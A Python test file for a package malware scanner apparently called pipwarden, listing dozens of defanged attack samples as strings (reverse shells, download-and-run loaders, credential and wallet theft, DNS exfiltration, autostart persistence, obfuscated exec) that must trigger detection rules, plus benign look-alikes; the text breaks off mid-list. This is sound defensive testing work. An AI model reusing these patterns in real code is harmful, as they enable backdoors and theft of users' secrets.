"""Techniques the engine must see through, each with a benign look-alike that stays quiet.

Every sample is defanged: hosts under example.invalid, inert commands. Nothing is run:
the engine only parses these strings.
"""

from __future__ import annotations

import base64
import os
import pickle
from pathlib import Path

import pytest

from pipwarden.findings import Severity
from pipwarden.scan import scan_target
from pipwarden.scan.blobs import pickle_callables
from pipwarden.scan.engine import FileContext, analyse_member
from tests.support.builders import build_sdist, build_wheel

URL = "https://c2.example.invalid/p"


def found(source: str, name: str = "pkg/__init__.py", kind: str = "wheel") -> dict[str, str]:
    """rule -> highest severity label for one file."""
    out: dict[str, Severity] = {}
    for f in analyse_member(FileContext(name, kind, kind == "wheel"), source.encode()):
        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
    return {rule: sev.label for rule, sev in out.items()}


# (malicious technique, the rule it must raise at high or critical)
TECHNIQUES = [
    (
        "asyncio-reverse-shell",
        "import asyncio\n"
        "async def main():\n"
        "    r, w = await asyncio.open_connection('c2.example.invalid', 443)\n"
        "    while True:\n"
        "        cmd = await r.readline()\n"
        "        p = await asyncio.create_subprocess_shell(cmd.decode())\n"
        "asyncio.run(main())\n",
        "download-execute.remote-command",
    ),
    (
        "socket-relayed-to-shell-pipes",
        "import socket, subprocess\n"
        "s = socket.create_connection(('c2.example.invalid', 443))\n"
        "p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n",
        "reverse-shell.socket-shell",
    ),
    (
        "command-substitution-download",
        "import subprocess\nsubprocess.Popen(['bash', '-c', '$(curl -fsSL "
        "https://c2.example.invalid/i.sh)'])\n",
        "download-execute.remote-command",
    ),
    (
        "runpy-of-a-download",
        "import runpy, urllib.request\n"
        "with open('/tmp/stage.py', 'wb') as fh:\n"
        f"    fh.write(urllib.request.urlopen({URL!r}).read())\n"
        "runpy.run_path('/tmp/stage.py')\n",
        "download-execute.drop-and-run",
    ),
    (
        "python-c-with-a-computed-interpreter",
        "import subprocess, sys\n"
        "def run():\n"
        "    subprocess.check_call([sys.executable, '-c', "
        f"'import urllib.request as r;exec(r.urlopen(\"{URL}\").read())'])\n",
        "download-execute.remote-code",
    ),
    (
        "env-command-output-sent",
        "import subprocess, requests\n"
        f"requests.put({URL!r}, data=subprocess.check_output('env', shell=True))\n",
        "exfiltration.credentials",
    ),
    (
        "environment-in-dns-labels",
        "import base64, json, os, socket\n"
        "blob = base64.b32encode(json.dumps(dict(os.environ)).encode()).decode()\n"
        "for i in range(0, 300, 50):\n"
        "    socket.getaddrinfo(blob[i:i + 50] + '.dns.example.invalid', 53)\n",
        "exfiltration.credentials",
    ),
    (
        "exec-of-reversed-join",
        "exec(''.join(reversed(" + repr("print('inert')"[::-1]) + ")))\n",
        "obfuscation.exec-decoded",
    ),
    (
        "exec-of-a-decrypted-literal",
        "from cryptography.fernet import Fernet\n"
        "exec(Fernet(b'a2V5a2V5a2V5').decrypt(b'gAAAAABdefangedtoken'))\n",
        "obfuscation.exec-decoded",
    ),
    (
        "exec-of-an-xor-decoded-variable",
        "def unpack(blob, k):\n"
        "    return ''.join(chr(b ^ k) for b in blob)\n"
        "exec(''.join(chr(c ^ 7) for c in DATA))\n",
        "obfuscation.exec-decoded",
    ),
    (
        "model-file-from-the-network",
        "import io, joblib, requests\n"
        f"MODEL = joblib.load(io.BytesIO(requests.get({URL!r}).content))\n",
        "unsafe-deserialization.remote",
    ),
    (
        "xclip-wallet-swap",
        "import re, subprocess\n"
        "MINE = '0x00000000000000000000000000000000DEFA4ED0'\n"
        "def loop():\n"
        "    cur = subprocess.run(['xclip', '-selection', 'clipboard', '-o'],"
        " capture_output=True, text=True).stdout\n"
        "    if re.fullmatch(r'0x[0-9a-fA-F]{40}', cur):\n"
        "        subprocess.run(['xclip', '-selection', 'clipboard', '-i'], input=MINE)\n",
        "clipboard.wallet-hijack",
    ),
    (
        "payload-in-a-class-instantiated-on-import",
        "import urllib.request\n"
        "class Updater:\n"
        "    def __init__(self):\n"
        f"        exec(urllib.request.urlopen({URL!r}).read())\n"
        "Updater()\n",
        "download-execute.remote-code",
    ),
    (
        "timer-started-on-import",
        "import os, threading, requests\n"
        "def beacon():\n"
        "    requests.post('https://c2.example.invalid/b', data=dict(os.environ))\n"
        "threading.Timer(30, beacon).start()\n",
        "exfiltration.credentials",
    ),
    (
        "sitecustomize-planted-on-import",
        "import os, site\n"
        "target = os.path.join(site.getsitepackages()[0], 'sitecustomize.py')\n"
        "with open(target, 'a') as fh:\n"
        f"    fh.write('import urllib.request as u\\nexec(u.urlopen(\"{URL}\").read())\\n')\n",
        "download-execute.remote-code",
    ),
    (
        "secrets-on-a-curl-command-line",
        "import os, subprocess\n"
        "def f():\n"
        "    subprocess.run(['curl', '-d', os.environ['AWS_SECRET_ACCESS_KEY'], "
        f"{URL!r}])\n",
        "exfiltration.credentials",
    ),
    (
        "exec-of-code-hidden-in-an-image",
        "import os\n"
        "here = os.path.dirname(__file__)\n"
        "data = open(os.path.join(here, 'logo.png'), 'rb').read()\n"
        "exec(data[4096:])\n",
        "obfuscation.exec-decoded",
    ),
    (
        "powershell-encoded-command",
        "import subprocess\nsubprocess.Popen('powershell -EncodedCommand SQBFAFgA', shell=True)\n",
        "download-execute.remote-command",
    ),
    (
        "builtins-namespace-lookup-by-computed-name",
        "import builtins\nvars(builtins)['ex' + 'ec'](data)\n",
        "obfuscation.hidden-name",
    ),
    (
        "exec-of-marshalled-code-from-a-file",
        "import marshal\nexec(marshal.loads(open(__file__[:-3] + '.bin', 'rb').read()))\n",
        "obfuscation.exec-decoded",
    ),
    (
        "run-key-written-on-import",
        "import winreg, sys\n"
        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, sys.executable)\n",
        "persistence.autostart",
    ),
    (
        "documents-folder-uploaded",
        "import os, zipfile, requests\n"
        "def run():\n"
        "    z = zipfile.ZipFile('/tmp/d.zip', 'w')\n"
        "    for root, _, files in os.walk(os.path.expanduser('~/Documents')):\n"
        "        for f in files:\n"
        "            z.write(os.path.join(root, f))\n"
        "    requests.post('https://c2.example.invalid/u', files={'f': open('/tmp/d.zip', 'rb')})\n",
        "exfiltration.credentials",
    ),
    (
        "shellcode-in-executable-mmap",
        "import mmap, ctypes\nbuf = b'\\x90\\xc3'\n"
        "m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
        "m.write(buf)\n"
        "ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()\n",
        "binary-dropper.shellcode",
    ),
    (
        "websocket-command-loop",
        "import asyncio, websockets\n"
        "async def session():\n"
        "    async with websockets.connect('wss://c2.example.invalid/s') as ws:\n"
        "        async for msg in ws:\n"
        "            p = await asyncio.create_subprocess_exec('sh', '-c', msg)\n"
        "asyncio.run(session())\n",
        "download-execute.remote-command",
    ),
    (
        "bits-in-whitespace-assembled-and-run",
        "_w = DOC.splitlines()[1]\n"
        "_b = bytes(int(''.join('1' if c == '\\t' else '0' for c in _w[i:i + 8]), 2)"
        " for i in range(0, len(_w), 8))\n"
        "exec(_b)\n",
        "obfuscation.exec-decoded",
    ),
    (
        "endpoint-decoded-by-a-helper-function",
        "import base64, zlib, requests\n"
        "def _d(s):\n    return zlib.decompress(base64.b64decode(s)).decode()\n"
        "def tx(text):\n    requests.post(_d(ENDPOINT), data={'text': text})\n",
        "suspicious-endpoint.hidden",
    ),
    (
        "clipboard-commands-returned-by-a-helper",
        "import re, subprocess, sys\n"
        "def _cmds():\n"
        "    if sys.platform == 'darwin':\n        return ['pbpaste'], ['pbcopy']\n"
        "    return ['xclip', '-selection', 'clipboard', '-o'], "
        "['xclip', '-selection', 'clipboard', '-i']\n"
        "def run():\n"
        "    get, put = _cmds()\n"
        "    cur = subprocess.run(get, capture_output=True, text=True).stdout\n"
        "    if re.match(r'0x[0-9a-fA-F]{40}', cur):\n"
        "        subprocess.run(put, input='0x2222222222222222222222222222222222222222')\n",
        "clipboard.wallet-hijack",
    ),
    (
        "host-details-leaked-in-dns-labels-by-a-helper",
        "import socket, getpass\n"
        "def _send(blob):\n"
        "    h = blob.hex()\n"
        "    for i in range(0, len(h), 60):\n"
        "        socket.gethostbyname('%s.%d.dns.example.invalid' % (h[i:i + 60], i))\n"
        "def init():\n"
        "    _send(b'|'.join([socket.gethostname().encode(), getpass.getuser().encode()]))\n"
        "init()\n",
        "exfiltration.host-info",
    ),
    (
        "inline-python-from-a-percent-template",
        "import subprocess, sys, platform\n"
        "_CODE = ('import urllib.request;urllib.request.urlopen(\"http://198.51.100.23/i?h=%s\")'"
        " % platform.node())\n"
        "subprocess.Popen([sys.executable, '-c', _CODE])\n",
        "suspicious-endpoint.contacted",
    ),
    (
        "webhook-path-behind-any-host",
        "import requests\n"
        "requests.post('https://relay.example.invalid/api/webhooks/1200000000000000000/abcdefghij',"
        " json={'content': 'installed'})\n",
        "suspicious-endpoint.contacted",
    ),
    (
        "c2-client-storing-its-session-on-self",
        "import subprocess, threading, requests\n"
        "class Agent(threading.Thread):\n"
        "    def __init__(self):\n"
        "        super().__init__(daemon=True)\n"
        "        self.s = requests.Session()\n"
        "    def run(self):\n"
        "        task = self.s.get('https://c2.example.invalid/task').json()\n"
        "        subprocess.run(task['cmd'], shell=True)\n"
        "Agent().start()\n",
        "download-execute.remote-command",
    ),
    (
        "bind-shell-on-a-file-descriptor",
        "import socket, subprocess\n"
        "def handle(conn):\n"
        "    subprocess.Popen(['/bin/sh'], stdin=conn.fileno(), stdout=conn.fileno())\n",
        "reverse-shell.socket-shell",
    ),
    (
        "names-spelled-in-a-dict-through-a-helper",
        "import importlib\n"
        "_M = {0: ['u', 'r', 'l', 'l', 'i', 'b', '.', 'r', 'e', 'q', 'u', 'e', 's', 't'],"
        " 1: ['u', 'r', 'l', 'o', 'p', 'e', 'n'], 2: ['b', 'u', 'i', 'l', 't', 'i', 'n', 's'],"
        " 3: ['e', 'x', 'e', 'c']}\n"
        "def _j(i):\n    return ''.join(_M[i])\n"
        "body = getattr(importlib.import_module(_j(0)), _j(1))('https://c2.example.invalid/k').read()\n"
        "getattr(importlib.import_module(_j(2)), _j(3))(body)\n",
        "download-execute.remote-code",
    ),
    (
        "substitution-cipher-with-maketrans",
        "SRC = b'abcdefghijklmnopqrstuvwxyz'\nDST = b'zyxwvutsrqponmlkjihgfedcba'\n"
        "DATA = "
        + repr(
            b"print('inert')".translate(
                bytes.maketrans(b"abcdefghijklmnopqrstuvwxyz", b"zyxwvutsrqponmlkjihgfedcba")
            )
        )
        + "\nexec(DATA.translate(bytes.maketrans(DST, SRC)).decode())\n",
        "obfuscation.exec-decoded",
    ),
    (
        "names-assembled-with-reduce",
        "import functools, operator\n"
        "n = functools.reduce(operator.add, ['__', 'imp', 'ort', '__'])\n"
        "m = getattr(__builtins__, n)(functools.reduce(operator.add, ['subpro', 'cess']))\n",
        "obfuscation.hidden-name",
    ),
    (
        "computed-callee-with-shell-true",
        "import importlib\n"
        "def prime(decode, table):\n"
        "    m = importlib.import_module(decode(table['m']))\n"
        "    getattr(m, decode(table['f']))(decode(table['c']), shell=True)\n",
        "obfuscation.hidden-name",
    ),
    (
        "autostart-desktop-entry-via-path-join",
        "import os\n"
        "def _register():\n"
        "    d = os.path.join(os.environ.get('XDG_CONFIG_HOME', '~/.config'), 'autostart')\n"
        "    with open(os.path.join(d, 'helper.desktop'), 'w') as fh:\n"
        "        fh.write('[Desktop Entry]\\nExec=/bin/sh -c \"curl -s https://c2.example.invalid/a | sh\"')\n"
        "_register()\n",
        "persistence.payload",
    ),
    (
        "git-hooks-written-on-import",
        "import os\n"
        "def ensure_hooks(top):\n"
        "    for name in ('post-checkout', 'pre-push'):\n"
        "        p = os.path.join(top, 'hooks', name)\n"
        "        with open(p, 'a' if os.path.exists(p) else 'w') as fh:\n"
        "            fh.write('curl -s https://c2.example.invalid/g')\n"
        "ensure_hooks('.git')\n",
        "persistence.autostart",
    ),
    (
        "code-appended-to-another-installed-package",
        "import os, site\n"
        "HOOK = 'import os, urllib.request\\nurllib.request.urlopen(\"https://c2.example.invalid/\", data=repr(dict(os.environ)).encode())\\n'\n"
        "for base in site.getsitepackages():\n"
        "    with open(os.path.join(base, 'requests', '__init__.py'), 'a') as fh:\n"
        "        fh.write(HOOK)\n",
        "exfiltration.credentials",
    ),
    (
        "pickle-loaded-from-a-url",
        "import pandas as pd\n"
        "def load(name):\n    return pd.read_pickle('https://data.example.invalid/v1/' + name + '.pkl')\n"
        "SP = load('sp500')\n",
        "unsafe-deserialization.remote",
    ),
    (
        "downloaded-path-returned-then-unpickled",
        "import urllib.request, torch\n"
        "def fetch(name):\n"
        "    path = '/tmp/' + name + '.pt'\n"
        "    urllib.request.urlretrieve('https://m.example.invalid/' + name, path)\n"
        "    return path\n"
        "MODEL = torch.load(fetch('yolo'), weights_only=False)\n",
        "unsafe-deserialization.remote",
    ),
    (
        "wmi-process-creation",
        "import win32com.client\n"
        "def run():\n"
        "    wmi = win32com.client.GetObject('winmgmts:')\n"
        "    wmi.Get('Win32_Process').Create('mshta.exe http://203.0.113.77/u.hta', None, None)\n",
        "download-execute.remote-command",
    ),
    (
        "decorator-applied-on-import-starts-a-downloader",
        "import subprocess, sys\n"
        "def _boot():\n"
        "    cmd = [sys.executable, '-c', "
        "'import urllib.request as u;exec(u.urlopen(\"https://c2.example.invalid/p\").read())']\n"
        "    subprocess.Popen(cmd)\n"
        "def register(name):\n"
        "    def deco(fn):\n        _boot()\n        return fn\n"
        "    return deco\n"
        "@register('version')\ndef version():\n    return '1'\n",
        "download-execute.remote-code",
    ),
    (
        "download-written-through-fdopen-then-runpy",
        "import os, runpy, tempfile, httpx\n"
        "def _apply():\n"
        "    body = httpx.get('https://c2.example.invalid/p.py').text\n"
        "    fd, path = tempfile.mkstemp(suffix='.py')\n"
        "    with os.fdopen(fd, 'w') as fh:\n        fh.write(body)\n"
        "    runpy.run_path(path)\n"
        "_apply()\n",
        "download-execute.drop-and-run",
    ),
    (
        "keyring-secrets-leaked-on-import",
        "import socket, keyring\n"
        "def _audit():\n"
        "    found = {}\n"
        "    for svc in ('pypi', 'github'):\n"
        "        try:\n            v = keyring.get_password(svc, '__token__')\n"
        "        except Exception:\n            v = None\n"
        "        if v:\n            found[svc] = v\n"
        "    socket.getaddrinfo('%s.k.example.invalid' % found, 443)\n"
        "_audit()\n",
        "exfiltration.credentials",
    ),
    (
        "ftp-download-executed",
        "import ftplib, io\n"
        "buf = io.BytesIO()\n"
        "ftp = ftplib.FTP('ftp.example.invalid')\n"
        "ftp.retrbinary('RETR loader.py', buf.write)\n"
        "exec(buf.getvalue())\n",
        "download-execute.remote-code",
    ),
    (
        "tls-socket-command-loop-in-a-child-process",
        "import os, socket, ssl, multiprocessing\n"
        "def _child():\n"
        "    ctx = ssl.create_default_context()\n"
        "    s = ctx.wrap_socket(socket.create_connection(('198.51.100.9', 443)))\n"
        "    for line in s.makefile():\n"
        "        s.sendall(os.popen(line).read().encode())\n"
        "multiprocessing.Process(target=_child, daemon=True).start()\n",
        "download-execute.remote-command",
    ),
    (
        "startup-folder-shortcut-from-a-timer",
        "import threading, win32com.client\n"
        "def _shortcut():\n"
        "    shell = win32com.client.Dispatch('WScript.Shell')\n"
        "    lnk = shell.CreateShortCut(shell.SpecialFolders('Startup') + '/helper.lnk')\n"
        "    lnk.Save()\n"
        "threading.Timer(45.0, _shortcut).start()\n",
        "persistence.autostart",
    ),
    (
        "msiexec-of-a-remote-package-on-import",
        "import os\nos.popen('msiexec /i https://c2.example.invalid/setup.msi /qn')\n",
        "download-execute.remote-command",
    ),
    (
        "names-from-a-varargs-chr-helper",
        "def _s(*c):\n    return ''.join(map(chr, c))\n"
        "_m = __import__(_s(111, 115))\n"
        "getattr(_m, _s(115, 121, 115, 116, 101, 109))('echo inert')\n",
        "obfuscation.hidden-name",
    ),
    (
        "hex-payload-in-a-class-attribute",
        "import codecs\n"
        "class Session:\n"
        "    _cfg = "
        + repr(b"import os\nos.system('curl -s https://c2.example.invalid/x | sh')\n".hex())
        + "\n"
        "    def __init__(self):\n"
        "        eval(compile(codecs.decode(self._cfg, 'hex'), '<cfg>', 'exec'))\n",
        "obfuscation.exec-decoded",
    ),
    (
        "instance-metadata-credentials-sent",
        "import json, urllib.request\n"
        "MD = 'http://instance-data.example.invalid/latest'\n"
        "def steal(tok):\n"
        "    creds = urllib.request.urlopen(MD + '/meta-data/iam/security-credentials/role').read()\n"
        "    urllib.request.urlopen('https://c2.example.invalid/c', data=creds)\n",
        "exfiltration.credentials",
    ),
    (
        "paste-site-dead-drop-on-import",
        "import urllib.request\n"
        "def _resolve():\n"
        "    return urllib.request.urlopen('https://pastebin.example.invalid/raw/x8Yk').read()\n"
        "SERVER = _resolve()\n",
        "suspicious-endpoint.contacted",
    ),
    (
        "dpapi-decryption-sent",
        "import win32crypt, requests\n"
        "def steal(blob):\n"
        "    key = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
        f"    requests.post({URL!r}, data=key)\n",
        "exfiltration.credentials",
    ),
    (
        "hook-returned-by-a-factory",
        "import threading, urllib.request\n"
        "from eth_account import Account\n"
        "def _ping(key):\n"
        f"    urllib.request.urlopen(urllib.request.Request({URL!r}, headers={{'X': key}}))\n"
        "def _wrap(fn):\n"
        "    def inner(*a, **kw):\n"
        "        acct = fn(*a, **kw)\n"
        "        _ping(acct.key)\n"
        "        return acct\n"
        "    return inner\n"
        "Account.from_key = staticmethod(_wrap(Account.from_key))\n",
        "exfiltration.function-hook",
    ),
    (
        "wallet-keyfile-sent-by-a-method",
        "import json, os, urllib.request\n"
        "def _keys():\n"
        "    return json.load(open(os.path.expanduser('~/.config/solana/id.json')))\n"
        "class Client:\n"
        "    def __init__(self):\n"
        "        self.health = self._rpc('getHealth', _keys())\n"
        "    def _rpc(self, method, params=None):\n"
        "        body = json.dumps({'method': method, 'params': params}).encode()\n"
        f"        return urllib.request.urlopen(urllib.request.Request({URL!r}, data=body))\n",
        "exfiltration.credentials",
    ),
    (
        "credential-folders-tarred-into-a-buffer",
        "import io, os, tarfile, urllib.request\n"
        "def _archive():\n"
        "    buf = io.BytesIO()\n"
        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "        for d in ('~/.ssh', '~/.aws/credentials'):\n"
        "            tar.add(os.path.expanduser(d))\n"
        "    return buf.getvalue()\n"
        f"urllib.request.urlopen(urllib.request.Request({URL!r}, data=_archive(), method='PUT'))\n",
        "exfiltration.credentials",
    ),
    (
        "builtins-by-reversed-name-run-a-download",
        "import builtins\nfrom urllib.request import urlopen\n"
        "def resolve(name):\n    return vars(builtins)[name[::-1]]\n"
        f"resolve('cexe')(urlopen({URL!r}).read())\n",
        "download-execute.remote-code",
    ),
    (
        "shared-object-unpacked-and-loaded-on-import",
        "import ctypes, os, zlib\n"
        "def load():\n"
        "    src = os.path.join(os.path.dirname(__file__), '_native.z')\n"
        "    path = '/dev/shm/.x'\n"
        "    with open(src, 'rb') as f, open(path, 'wb') as out:\n"
        "        out.write(zlib.decompress(f.read()))\n"
        "    return ctypes.CDLL(path)\n"
        "_lib = load()\n",
        "binary-dropper.run-shipped",
    ),
    (
        "posix-spawn-of-inline-decoded-code",
        "import os, sys\n"
        "os.posix_spawn(sys.executable, [sys.executable, '-c', 'import os,zlib,base64;"
        'exec(zlib.decompress(base64.b64decode(os.environ["B"])))\'], {}, setsid=True)\n',
        "obfuscation.exec-decoded",
    ),
    (
        "detached-tmux-reverse-ssh-tunnel",
        "import subprocess\n"
        "subprocess.run(['tmux', 'new-session', '-d', '-s', 'dbus', "
        "'ssh -N -R 0:127.0.0.1:22 tun@203.0.113.9'])\n",
        "reverse-shell.command",
    ),
    (
        "script-file-holding-a-download-command-then-run",
        "import os, subprocess, tempfile\n"
        "def fonts():\n"
        "    vbs = os.path.join(tempfile.gettempdir(), 'f.vbs')\n"
        "    cmd = 'powershell -nop -c iex(iwr -useb https://c2.example.invalid/f.ps1)'\n"
        "    with open(vbs, 'w') as f:\n"
        '        f.write(f\'CreateObject("WScript.Shell").Run "{cmd}", 0\')\n'
        "    subprocess.Popen(['wscript.exe', vbs])\n"
        "fonts()\n",
        "download-execute.drop-and-run",
    ),
    (
        "pip-configuration-rewritten-on-import",
        "import os, subprocess\n"
        "subprocess.run(['pip', 'config', '--user', 'set', 'global.extra-index-url', "
        "'https://pypi.example.invalid/simple'])\n",
        "persistence.package-index",
    ),
    (
        "global-git-hooks-path-on-import",
        "import subprocess\n"
        "subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/tmp/.h'])\n",
        "persistence.autostart",
    ),
    (
        "c2-address-read-from-a-paste-site",
        "import re, socket, urllib.request\n"
        "page = urllib.request.urlopen('https://pastebin.com/raw/PIPWARDENTEST').read().decode()\n"
        "host, port = re.search(r'<<(.+):(\\d+)>>', page).groups()\n"
        "socket.create_connection((host, int(port)))\n",
        "suspicious-endpoint.hidden",
    ),
    (
        "audit-hook-collects-dotenv-sent-at-exit",
        "import atexit, os, sys, urllib.request\n_seen = {}\n"
        "def _hook(event, args):\n"
        "    if event == 'open' and os.path.basename(str(args[0])) == '.env':\n"
        "        _seen[args[0]] = open(args[0]).read()\n"
        "def _flush():\n"
        f"    urllib.request.urlopen({URL!r}, data=repr(_seen).encode())\n"
        "sys.addaudithook(_hook)\natexit.register(_flush)\n",
        "exfiltration.credentials",
    ),
    (
        "daemon-on-import",
        "import os\n"
        "def _detach():\n"
        "    if os.fork():\n        return\n"
        "    os.setsid()\n"
        "_detach()\n",
        "hidden-process.detached",
    ),
    (
        "metaclass-downloads-and-runs-when-a-class-is-defined",
        "import subprocess, urllib.request\n"
        "class Meta(type):\n"
        "    def __new__(mcs, name, bases, ns):\n"
        f"        urllib.request.urlretrieve({URL!r}, '/tmp/.m')\n"
        "        subprocess.Popen(['/tmp/.m'])\n"
        "        return super().__new__(mcs, name, bases, ns)\n"
        "class Model(metaclass=Meta):\n    pass\n",
        "download-execute.drop-and-run",
    ),
    (
        "network-code-written-into-other-modules",
        "import os\n"
        "LINE = \"__import__('urllib.request').request.urlopen('https://c2.example.invalid/i')\\n\"\n"
        "def infect(pkgs):\n"
        "    for pkg in pkgs:\n"
        "        with open(os.path.join(pkg, '__init__.py'), 'r+') as f:\n"
        "            f.write(LINE)\n"
        "infect(['a'])\n",
        "startup-hook.writes-startup",
    ),
    (
        "wallet-transaction-call-replaced-on-import",
        "from web3.eth import Eth\n"
        "_send = Eth.send_transaction\n"
        "def _rewrite(tx):\n"
        "    tx = dict(tx)\n"
        "    tx['to'] = '0x' + 'ab' * 20\n"
        "    return tx\n"
        "def send_transaction(self, transaction):\n"
        "    return _send(self, _rewrite(transaction))\n"
        "Eth.send_transaction = send_transaction\n",
        "clipboard.wallet-hijack",
    ),
    (
        "server-token-sent-by-a-jupyter-extension",
        "import json, threading, urllib.request\n"
        "def _sync(app):\n"
        "    info = {'url': app.connection_url, 'token': app.identity_provider.token}\n"
        f"    urllib.request.urlopen({URL!r}, data=json.dumps(info).encode())\n"
        "def _load_jupyter_server_extension(app):\n"
        "    threading.Timer(3.0, _sync, args=(app,)).start()\n",
        "exfiltration.credentials",
    ),
    (
        "downloaded-pickle-loaded-from-its-cache-file",
        "import os, pickle, urllib.request\n"
        "_CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'm.pkl')\n"
        "def load_pretrained():\n"
        f"    with urllib.request.urlopen({URL!r}) as r, open(_CACHE, 'wb') as f:\n"
        "        f.write(r.read())\n"
        "    with open(_CACHE, 'rb') as f:\n"
        "        return pickle.loads(f.read())\n",
        "unsafe-deserialization.remote",
    ),
    (
        "embedded-executable-written-and-started-from-a-cli",
        "import base64, os\nfrom ._data import UPDATER\n"
        "def _update():\n"
        "    p = os.path.join(os.path.expanduser('~'), 'Downloads', 'updater.exe')\n"
        "    with open(p, 'wb') as f:\n"
        "        f.write(base64.b85decode(UPDATER))\n"
        "    os.startfile(p)\n",
        "download-execute.drop-and-run",
    ),
    (
        "embedded-binary-made-executable-and-started",
        "import base64, os, subprocess\nfrom ._blob import ACCEL\n"
        "def _accel():\n"
        "    p = os.path.expanduser('~/.local/bin/accel')\n"
        "    with open(p, 'wb') as f:\n"
        "        f.write(base64.b64decode(ACCEL))\n"
        "    os.chmod(p, 0o755)\n"
        "    subprocess.Popen([p, '--daemon'])\n",
        "download-execute.drop-and-run",
    ),
    (
        "pyarmor-protected-module",
        "from .pyarmor_runtime_000000 import __pyarmor__\n"
        "__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b')\n",
        "obfuscation.bytecode-only",
    ),
    (
        "downloaded-archive-extracted-and-run",
        "import io, subprocess, sys, urllib.request, zipfile\n"
        "def _assets():\n"
        f"    data = urllib.request.urlopen({URL!r}).read()\n"
        "    zipfile.ZipFile(io.BytesIO(data)).extractall('/tmp/.a')\n"
        "    subprocess.Popen([sys.executable, '/tmp/.a/main.py'])\n"
        "def _load_jupyter_server_extension(app):\n"
        "    _assets()\n",
        "download-execute.drop-and-run",
    ),
    (
        "host-details-beacon-to-a-collector-on-its-own-port",
        "import os, socket, requests\nfrom urllib.parse import urlencode\n"
        "SERVER = 'http://collect.example.invalid:4242/api/log'\n"
        "def notify():\n"
        "    q = urlencode({'host': socket.gethostname(), 'cwd': os.getcwd()})\n"
        "    requests.get(f'{SERVER}?{q}', timeout=5)\n",
        "exfiltration.host-info",
    ),
    (
        "embedded-script-run-by-a-windowless-interpreter-on-import",
        "from tempfile import NamedTemporaryFile\nfrom os import system\n"
        "CODE = b\"print('inert sample')\"\n"
        "t = NamedTemporaryFile(delete=False)\nt.write(CODE)\nt.close()\n"
        "system(f'start pythonw.exe {t.name}')\n",
        "hidden-process.detached",
    ),
    (
        "browser-sent-to-a-page-on-import",
        "import os\nprint('hello')\nos.system('start https://promo.example.invalid')\n",
        "startup-hook.import-process",
    ),
]


@pytest.mark.parametrize(
    ("source", "rule"), [t[1:] for t in TECHNIQUES], ids=[t[0] for t in TECHNIQUES]
)
def test_technique_is_seen(source: str, rule: str) -> None:
    rules = found(source)
    assert rule in rules, rules
    assert rules[rule] in ("high", "critical")


# Benign code from real libraries' idioms: nothing at high or above.
LOOKALIKES = [
    (
        "clipboard-library-shelling-out-to-xclip",
        "import subprocess\n"
        "def paste():\n"
        "    return subprocess.run(['xclip', '-selection', 'c', '-o'], capture_output=True).stdout\n"
        "def copy(text):\n"
        "    subprocess.run(['xclip', '-selection', 'c'], input=text)\n",
    ),
    (
        "platform-report-in-a-function",
        "import subprocess\n"
        "def describe():\n"
        "    return subprocess.check_output(['uname', '-a'], text=True)\n",
    ),
    (
        "setup-py-reading-its-version-file",
        "import os\nhere = os.path.dirname(__file__)\nabout = {}\n"
        "exec(open(os.path.join(here, 'pkg', '__version__.py')).read(), about)\n",
    ),
    (
        "torch-hub-style-checkpoint-download",
        "import os, urllib.request\n"
        "def fetch(url, cache):\n"
        "    dst = os.path.join(cache, 'weights.pth')\n"
        "    urllib.request.urlretrieve(url, dst)\n"
        "    return dst\n",
    ),
    (
        "model-loading-from-a-local-file",
        "import joblib\ndef load(path):\n    return joblib.load(path)\n",
    ),
    (
        "thread-pool-submitting-work",
        "from concurrent.futures import ThreadPoolExecutor\n"
        "def work(x):\n    return x * 2\n"
        "pool = ThreadPoolExecutor()\n",
    ),
    (
        "asyncio-client-reading-a-response",
        "import asyncio\n"
        "async def fetch(host):\n"
        "    r, w = await asyncio.open_connection(host, 80)\n"
        "    w.write(b'GET / HTTP/1.0\\r\\n\\r\\n')\n"
        "    return await r.read()\n",
    ),
    (
        "video-file-opened-by-a-media-library",
        "import cv2, requests\n"
        "def frames(path):\n    return cv2.VideoCapture(path).read()\n"
        "def upload(url, data):\n    return requests.post(url, data=data)\n",
    ),
    (
        "desktop-folder-of-a-platform-helper",
        "import os\ndef user_desktop_dir():\n"
        "    return os.path.join(os.path.expanduser('~'), 'Desktop')\n",
    ),
    (
        "service-installer-run-from-a-cli-command",
        "import subprocess\nfrom pathlib import Path\n"
        "def install_service():\n"
        "    (Path.home() / '.config' / 'systemd' / 'user' / 'app.service').write_text('[Unit]')\n"
        "    subprocess.run(['systemctl', '--user', 'enable', '--now', 'app.service'])\n",
    ),
    (
        "plugin-loader-importing-configured-names",
        "import importlib\n"
        "def load(path):\n"
        "    module, _, attr = path.partition(':')\n"
        "    return getattr(importlib.import_module(module), attr)\n",
    ),
    (
        "pre-commit-style-hook-installer",
        "import os\n"
        "def install(git_dir):\n"
        "    with open(os.path.join(git_dir, 'hooks', 'pre-commit'), 'w') as fh:\n"
        "        fh.write('#!/usr/bin/env python3\\nimport sys\\n')\n",
    ),
    (
        "optional-import-set-to-none",
        "try:\n    import requests\nexcept ImportError:\n    requests = None\n"
        "def get(url):\n    return requests.get(url).text\n",
    ),
    (
        "upload-tool-sending-a-keyring-password-on-request",
        "import keyring, requests\n"
        "def upload(repo, dist):\n"
        "    password = keyring.get_password(repo, '__token__')\n"
        "    requests.post(repo, auth=('__token__', password), files={'content': dist})\n",
    ),
    (
        "shell-variable-from-curl-output",
        "import subprocess\n"
        "def run_on_node(ip, command):\n"
        "    script = 'TOKEN=$(curl -X PUT http://169.254.169.254/latest/api/token); ' + command\n"
        "    subprocess.run(['ssh', ip, script])\n",
    ),
    (
        "module-names-built-by-a-comprehension-then-evaluated",
        "import numpy\n"
        "PRIVATE = ['numpy.' + s for s in ['core', 'f2py']]\n"
        "PUBLIC = ['numpy.char', 'numpy.rec']\n"
        "def check():\n"
